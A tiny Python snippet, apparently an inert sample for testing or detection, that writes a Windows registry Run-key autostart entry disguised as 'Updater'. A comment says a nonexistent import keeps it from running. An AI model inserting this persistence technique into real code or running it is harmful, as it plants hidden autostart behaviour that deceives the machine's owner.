import inert_sample  # there is no such module: nothing below ever runs
import sys
import winreg

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_WRITE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
